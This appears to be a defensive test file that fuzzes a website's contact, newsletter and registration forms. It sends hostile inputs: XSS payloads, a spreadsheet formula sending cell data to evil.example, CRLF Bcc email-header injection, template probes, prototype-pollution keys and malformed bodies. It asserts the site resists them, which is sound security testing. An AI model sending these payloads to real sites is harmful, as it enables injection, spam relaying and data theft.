import { afterAll, beforeAll, expect, inject, it } from 'vitest'
import { type MailServer, openMailServer } from '../mail-server.ts'
import { copyDataDir, type DataDir, type Product, startProduct } from '../product.ts'

// Hostile values in each field of each form of the site, as a robot sends them: over HTTP, without a browser.

let mailServer: MailServer
let folder: DataDir
let product: Product

beforeAll(async () => {
  mailServer = await openMailServer()
  folder = await copyDataDir(inject('starterDataDir'))
  product = await startProduct({
    dataDir: folder.dataDir,
    environment: {
      SMTP_URL: mailServer.url,
      FORM_MINIMUM_SECONDS: '0',
      FORM_SUBMISSIONS_PER_HOUR: '100000',
      FORM_UNCONFIRMED_PLACES: '100000',
    },
  })
})
afterAll(async () => {
  await product.stop()
  await mailServer.close()
  await folder.remove()
})

const office = 'office@example.org'
let serial = 0
const canary = 'victim@evil.example'

const hostile = [
  '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  `Jane\r\nBcc: ${canary}\r\n\r\nHello`,
  `Jane%0d%0aBcc:${canary}`,
  `a@b.example, ${canary}`,
  `"${canary}" <jane@example.org>`,
  `jane@example.org\u2028${canary}`,
  'a\u0000b\u0008\u001b[31m',
  '{token} {url} ${7*7} {{7*7}}',
  '\ud800\udfff\ufeff\u202e\u200b',
  '9'.repeat(400),
  'é'.repeat(20_000),
  '__proto__',
]

interface FormOfPage {
  path: string
  body: Record<string, string>
}

/** A form as a visitor fills it in: with a value for each of its controls. */
const formsOf = async (path: string): Promise<FormOfPage[]> => {
  const html = await (await fetch(product.url + path)).text()
  const forms = html.match(/<form [^>]*data-form=[\s\S]*?<\/form>/g) ?? []
  return forms.map(form => {
    const body: Record<string, string> = {}
    for (const [control] of form.matchAll(/<(input|textarea|select)\b[^>]*>/g)) {
      const name = attribute(control, 'name')
      if (name !== '' && name !== 'website') body[name] ??= filled(control)
    }
    return { path, body }
  })
}

const attribute = (tag: string, name: string): string =>
  new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1] ?? ''

const filled = (control: string): string => {
  const type = attribute(control, 'type')
  if (['hidden', 'radio'].includes(type)) return attribute(control, 'value')
  if (type === 'checkbox') return attribute(control, 'value') || 'on'
  if (control.startsWith('<select')) return ''
  if (type === 'email') return 'jane@example.org'
  if (type === 'tel') return '+31 20 123 4567'
  if (type === 'number') return '1'
  return type === 'date' ? '2027-03-02' : 'Some text'
}

const urlEncoded = 'application/x-www-form-urlencoded'
const send = async (path: string, body: string | Uint8Array<ArrayBuffer>, type = urlEncoded) => {
  const answer = await fetch(product.url + path, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': type },
    body,
  })
  return { status: answer.status, text: await answer.text() }
}
const encoded = (body: Record<string, string>) => new URLSearchParams(body).toString()

/** Runs tasks, a few at once. */
const inTurns = async (tasks: (() => Promise<void>)[]): Promise<void> => {
  const queue = [...tasks]
  const work = async () => {
    for (let task = queue.shift(); task; task = queue.shift()) await task()
  }
  await Promise.all([work(), work(), work(), work()])
}

const composePage = async (): Promise<string> => {
  const client = await product.logIn()
  const kinds = ['text', 'long-text', 'email', 'phone', 'number', 'date', 'select', 'radio', 'checkboxes']
  const fields = [...kinds, 'consent', 'hidden'].map((kind, index) => ({
    key: `k${index}`,
    label: kind,
    kind,
    required: false,
    ...(['select', 'radio', 'checkboxes'].includes(kind) && { options: 'One\nTwo' }),
  }))
  const props = { fields, recipient: office, replySubject: 'Thanks', replyText: 'We have it.' }
  const { pageID } = await client.page.create({
    body: {
      title: 'Composed',
      slug: 'composed',
      type: 'basic',
      locale: 'en-gb',
      content: [{ type: 'form', key: 'composed', props }],
    },
  })
  await client.page.publish({ params: { id: pageID } })
  return '/en-gb/composed'
}

const pages = [
  'contact',
  'newsletter',
  'knowledge-centre',
  'sse-academy/training-courses/sustainable-purchasing',
]

it('no field of a form lets a visitor break the site, write to others or put markup into a page', async () => {
  const paths = [...pages.map(slug => `/en-gb/${slug}`), await composePage()]
  const found = (await Promise.all(paths.map(formsOf))).flat()
  const forms = new Map(found.map(form => [form.body.form ?? '', form]))
  const names = [...forms.keys()].map(name => name.split(':', 1).join())
  expect(names.toSorted((one, other) => one.localeCompare(other))).toEqual([
    'contact',
    'form',
    'leaflet-download',
    'newsletter',
    'training-registration',
  ])

  for (const { path, body } of forms.values()) {
    const { status, text } = await send(path, encoded(body))
    expect([body.form, status, text.match(/class="form__error"[^<]*/g)]).toEqual([body.form, 303, null])
  }

  const refused: string[] = []
  // What one address gets is limited.
  const fromAnother = (body: Record<string, string>) => {
    const address = `jane.${++serial}@example.org`
    return Object.fromEntries(
      Object.entries(body).map(([name, value]) => [name, value === 'jane@example.org' ? address : value]),
    )
  }
  const check = (what: string, { status, text }: Awaited<ReturnType<typeof send>>) => {
    if (![200, 303, 400, 404, 405, 413, 415, 422].includes(status)) refused.push(`${status} for ${what}`)
    if (/<script>alert|<img src=x/.test(text)) refused.push(`markup from ${what}`)
  }
  const tasks = [...forms.values()].flatMap(({ path, body }) => [
    ...Object.keys(body).flatMap(name =>
      hostile.map(value => async () => {
        check(
          `${body.form} ${name} ${value.slice(0, 20)}`,
          await send(path, encoded({ ...fromAnother(body), [name]: value })),
        )
      }),
    ),
    ...Object.entries(bodiesLike(fromAnother(body))).map(([what, [sent, type]]) => async () => {
      check(`${body.form} ${what}`, await send(path, sent, type))
    }),
  ])
  await inTurns(tasks)
  expect(refused).toEqual([])
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)

  const client = await product.logIn()
  const { data } = await client.mail.list({ body: { pageSize: 100, searchTerm: canary } })
  expect(data.items.filter(({ to }) => to.includes(canary))).toEqual([])
  await expect.poll(() => mailServer.arrived.length).toBeGreaterThan(0)
  for (const { recipient, content } of mailServer.arrived) {
    expect(recipient).toMatch(/^(jane|jane\.\d+|office)@example\.org$|@som\.example$/)
    const [head = ''] = content.split('\r\n\r\n', 1)
    expect(head).not.toMatch(/^bcc:/im)
  }
})

/** Bodies that are hostile as a whole, with their content type. */
const bodiesLike = (
  body: Record<string, string>,
): Record<string, [string | Uint8Array<ArrayBuffer>, string]> => {
  const text = encoded(body)
  const many = Array.from({ length: 10_000 }, (_, number) => `f${number}=1`).join('&')
  return {
    'a value of 1 MB': [`${text}&message=${'x'.repeat(1_048_576)}`, urlEncoded],
    '10,000 fields': [`${text}&${many}`, urlEncoded],
    'duplicate names': [`${text}&${text}&${text}`, urlEncoded],
    'keys of prototypes': [
      `${text}&__proto__.polluted=1&constructor.prototype.polluted=1&__proto__[polluted]=1`,
      urlEncoded,
    ],
    'bytes that are not UTF-8': [Buffer.from(`${text}&name=%FF%FE%80&email=\xff`, 'latin1'), urlEncoded],
    'UTF-16': [Buffer.from(text, 'utf16le'), `${urlEncoded}; charset=utf-16le`],
    'multipart without a boundary': [text, 'multipart/form-data'],
    'multipart with a broken part': [
      '--b\r\nContent-Disposition: form-data; name="form',
      'multipart/form-data; boundary=b',
    ],
    'JSON instead': [JSON.stringify(body), 'application/json'],
    'plain text': [text, 'text/plain'],
    nothing: ['', urlEncoded],
  }
}
